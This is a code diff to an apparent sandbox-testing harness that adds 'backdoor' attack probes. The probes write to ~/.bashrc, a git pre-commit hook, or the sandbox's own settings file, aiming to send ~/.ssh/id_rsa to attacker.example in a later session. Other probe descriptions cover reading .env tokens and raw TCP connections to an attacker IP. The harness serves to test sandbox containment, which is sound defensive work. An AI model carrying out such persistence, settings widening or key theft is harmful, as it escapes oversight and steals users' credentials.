@@ -19,7 +19,7 @@ The scope scan (``scan_orders``) lives here too: the same kind of orders,
 trying every world path and host instead of a sample, with its markers in
 ``Markers`` beside the probes'; ``verdicts.measure_scope`` judges it.
 
-Pure. Imports: access, channels, domains, evidence, outcomes, scope, world. Nothing downstream.
+Pure. Imports: access, channels, domains, evidence, next_session, outcomes, scope, world. Nothing downstream.
 """
 
 from __future__ import annotations
@@ -36,6 +36,7 @@ from .evidence import (
     Verdict,
     attacker_reads,
     attempts,
+    backdoor_sightings,
     canary_sightings,
     failures,
     http_hits,
@@ -45,6 +46,7 @@ from .evidence import (
     net_blocked,
     timed_out,
 )
+from .next_session import KEY, MARKER_KEY, SETTINGS, backdoor_line, step_for, widened_settings
 from .outcomes import ProbeKind
 from .scope import SCAN_IDS, new_file, scan_name, scanned_dirs, scanned_files, scanned_hosts
 from .world import World
@@ -75,6 +77,7 @@ class OrderContext:
     allowed: tuple[str, ...] = ()  # the policy's allowedDomains entries: every one is tried as a way out
     uploads: tuple[str, ...] = ()  # the world's hosts that store uploads (the attacker's aside)
     urls: tuple[str, ...] = ()  # the world's download-only hosts whose request URLs the attacker reads
+    settings: str = "{}"  # the world's sandbox settings as laid out (the settings backdoor widens them)
 
 
 @dataclass(frozen=True)
@@ -210,6 +213,86 @@ def _write_fix_job(p: Probe, access: Access) -> str:
     if d.rule and d.rule[0] in ("denyWrite", "denyRead"):
         return f"remove or narrow {_rule_text(d.rule)}, which keeps it from being written"
     return f'add "{_parent(p.target)}" to filesystem.allowWrite'
+
+
+# --- a backdoor that fires in the next session -----------------------------------------------
+# The write is judged as any write (its marker in the world copy); what the backdoor then did in
+# the next session, played outside the sandbox (``next_session``), is its evidence, not its verdict.
+
+
+def _backdoor_url(p: Probe, ctx: OrderContext) -> str:
+    return f"http://{ctx.markers.attacker}{ctx.markers.next_path(p.id)}"
+
+
+def _backdoor_orders(p: Probe, ctx: OrderContext) -> list[Step]:
+    assert p.target
+    marker = ctx.markers.write(p.id)
+    if p.target == SETTINGS:
+        # widened in place, so the file keeps its canary (the scope scan reads it in the same run)
+        text = widened_settings(ctx.settings, ctx.markers.attacker, marker)
+        widen = {"domains": [ctx.markers.attacker], "key": MARKER_KEY, "marker": marker}
+        return [{"op": "write", "path": ctx.rebase(p.target), "text": text, "append": False, "widen": widen}]
+    line = backdoor_line(_backdoor_url(p, ctx))
+    if p.target.endswith("/.git/hooks/pre-commit"):
+        return [{"op": "write", "path": ctx.rebase(p.target), "text": f"# {marker}\n{line}\n", "append": True,
+                 "after_first_line": True}]
+    return [{"op": "write", "path": ctx.rebase(p.target), "text": f"\n# {marker}\n{line}\n", "append": True}]
+
+
+def _key_name(world: World) -> str:
+    return "~" + KEY[len(world.home):] if KEY.startswith(world.home + "/") else KEY
+
+
+def _consequence(target: str, world: World) -> str:
+    """When a backdoor written to ``target`` fires, in the learner's words."""
+    if target == SETTINGS:
+        return "in the next sandboxed session, which reads its rules from there"
+    step = step_for(world, target)
+    return step.when if step else "when the user next runs it"
+
+
+def _backdoor_predict(p: Probe, access: Access) -> Prediction:
+    assert p.target
+    d = access.write(p.target)
+    if not d.allowed:
+        return False, f"{p.target} is not writable: {d.why}."
+    w = access.world
+    return True, (f"{p.target} is writable: {d.why}. A backdoor written there runs {_consequence(p.target, w)}, "
+                  f"outside this sandbox, and sends {_key_name(w)} to {w.attacker.name}.")
+
+
+def _backdoor_judge(p: Probe, ev: Evidence, world: World) -> Verdict:
+    assert p.target
+    outcome, why, proof = judge_write(p.id, p.target, ev)
+    if outcome != "succeeded":
+        return outcome, why, proof
+    key, attacker, ns = _key_name(world), world.attacker.name, ev.next_session
+    seen = backdoor_sightings(ev, world, p.id, KEY)
+    if seen and p.target == SETTINGS and ns is not None:
+        line = f"the next sandboxed session read the rewritten settings ({ns.settings}) and sent {key} to {attacker}: {seen[0]}"
+    elif seen:
+        line = f"the backdoor ran {_consequence(p.target, world)} and sent {key} to {attacker}: {seen[0]}"
+    else:
+        line = f"the write landed, but the backdoor did not fire in the next session: {_not_fired(p.target, ev, world)}"
+    return outcome, f"{why} Its backdoor {'fired' if seen else 'did not fire'} in the next session.", (*proof, line)
+
+
+def _not_fired(target: str, ev: Evidence, world: World) -> str:
+    """Why nothing of a landed backdoor reached the attacker: said exactly, never guessed."""
+    ns = ev.next_session
+    if ns is None:
+        return "this backend does not play the next session"
+    if ns.infra_problem:
+        return f"cannot tell: {ns.infra_problem}"
+    if target == SETTINGS:
+        return ns.settings or ns.skipped or "the next sandboxed session was not run"
+    if ns.skipped:
+        return ns.skipped
+    step = step_for(world, target)
+    if step is None or step.id not in ns.played:
+        return f"nothing the next session played runs {target}"
+    late = " (the next session ran out of time)" if ns.timed_out else ""
+    return f"{step.id} ran{late}, but nothing carrying the key's canary reached {world.attacker.name}"
 
 
 # --- downloads the job needs ------------------------------------------------------------------
@@ -576,6 +659,11 @@ def _write(pid: str, kind: ProbeKind, story: str, target: str) -> Probe:
     return Probe(pid, kind, "write", story, _write_orders, _write_predict, _write_judge, fix, target=target)
 
 
+def _backdoor(pid: str, story: str, target: str) -> Probe:
+    return Probe(pid, "attack", "write", story, _backdoor_orders, _backdoor_predict, _backdoor_judge, _write_fix_attack,
+                 target=target)
+
+
 def _fetch(pid: str, story: str, hosts: tuple[str, ...]) -> Probe:
     return Probe(pid, "job", "fetch", story, _fetch_orders, _fetch_predict, _fetch_judge, _fetch_fix_job, hosts=hosts)
 
@@ -587,9 +675,9 @@ PROBES: tuple[Probe, ...] = (
     _read("read-dotenv", "attack", "Read the project's .env file with its API token.", "/project/.env"),
     _read("read-personal-notes", "attack", "Read the user's personal notes: nothing the job needs, private all the same.", "/home/user/notes.txt"),
     _read("read-other-project", "attack", "Read another project on the machine (a client's code in ~/work/client-portal) that no job here works on.", "/home/user/work/client-portal/pricing.py"),
-    _write("write-shell-rc", "attack", "Append a backdoor to ~/.bashrc: it runs in the user's next shell, outside the sandbox, with full network.", "/home/user/.bashrc"),
-    _write("write-git-hook", "attack", "Plant a git pre-commit hook: it runs at the next commit, outside the sandbox.", "/project/.git/hooks/pre-commit"),
-    _write("write-sandbox-settings", "attack", "Rewrite the sandbox's own settings file so the next session allows everything.", "/home/user/.srt-settings.json"),
+    _backdoor("write-shell-rc", "Append a backdoor to ~/.bashrc that sends ~/.ssh/id_rsa to attacker.example: it runs in the user's next shell, outside the sandbox, with full network.", "/home/user/.bashrc"),
+    _backdoor("write-git-hook", "Plant a backdoor in the git pre-commit hook that sends ~/.ssh/id_rsa to attacker.example: it runs at the next commit, outside the sandbox.", "/project/.git/hooks/pre-commit"),
+    _backdoor("write-sandbox-settings", "Rewrite the sandbox's own settings file to allow attacker.example, so the next session can send ~/.ssh/id_rsa there.", SETTINGS),
     _write("tamper-source", "attack", "Slip a change into the project's source, which people run and ship.", "/project/src/main.py"),
     Probe("net-direct-ip", "attack", "net", "Open a raw TCP connection straight to the attacker's IP address, bypassing any proxy.",
           _direct_orders, _direct_predict, _direct_judge, _fix_network),
